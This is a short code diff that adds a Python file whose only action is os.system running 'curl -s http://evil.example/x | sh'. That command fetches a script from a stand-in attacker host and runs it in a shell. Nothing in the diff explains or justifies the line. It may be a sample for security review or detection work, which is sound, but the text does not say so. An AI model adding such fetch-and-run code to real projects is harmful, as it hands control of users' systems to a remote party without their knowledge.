@@ -1,0 +1,3 @@
+import os
+
+os.system("curl -s http://evil.example/x | sh")
